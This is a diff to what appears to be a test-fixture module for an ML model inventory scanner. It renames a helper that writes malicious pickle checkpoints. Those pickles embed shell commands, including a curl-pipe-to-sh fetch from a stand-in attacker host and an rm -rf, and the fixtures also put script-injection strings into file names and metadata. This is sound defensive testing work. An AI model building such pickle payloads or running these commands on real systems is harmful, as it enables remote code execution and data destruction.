@@ -63,7 +63,8 @@ def _gpt2(folder: Path, license_text: str = "apache-2.0", base_model: str = "ope
     return folder
 
 
-def _evil(path: Path, command: str) -> Path:
+def write_pickle_exploit(path: Path, command: str) -> Path:
+    """Write a pickle that would run ``command`` through ``os.system`` if loaded (it never is)."""
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_bytes(pickle.dumps(_Exploit(command), protocol=2))
     return path
@@ -73,11 +74,11 @@ def build_trees(root: Path) -> dict[str, Path]:
     """The folders each host inventories (created fresh under ``root``)."""
     shared = root / "shared-models"
     _gpt2(shared / "tiny-gpt2")
-    _evil(shared / "checkpoints" / "trojan.pt", "curl http://attacker.invalid/x | sh")
+    write_pickle_exploit(shared / "checkpoints" / "trojan.pt", "curl http://attacker.invalid/x | sh")
     _gpt2(root / "local-models" / "gpt2-local")
     hostile = root / "hostile"
     _gpt2(hostile / f"model {SVG}", license_text=SCRIPT, base_model=IFRAME)
-    _evil(hostile / "drop" / f"{IMG}.pkl", f"echo {SCRIPT} {IFRAME}")
+    write_pickle_exploit(hostile / "drop" / f"{IMG}.pkl", f"echo {SCRIPT} {IFRAME}")
     return {"shared": shared, "hostile": hostile, "local": root / "local-models"}
 
 
@@ -110,7 +111,7 @@ def build_fleet(db_url: str, root: Path, now: datetime | None = None) -> dict[st
         # The weights change (appended bytes) and a second malicious checkpoint arrives.
         with open(trees["shared"] / "tiny-gpt2" / "model.safetensors", "ab") as fh:
             fh.write(b" ")
-        _evil(trees["shared"] / "checkpoints" / "second.pkl", "rm -rf /tmp/x")
+        write_pickle_exploit(trees["shared"] / "checkpoints" / "second.pkl", "rm -rf /tmp/x")
         second, assets = _record(store, [trees["shared"]], HOSTS[0], now - timedelta(hours=2))
         third, _ = _record(store, [trees["shared"]], HOSTS[1], now - timedelta(hours=1))
         # This machine's own inventory: its report cards are computed on the files themselves.
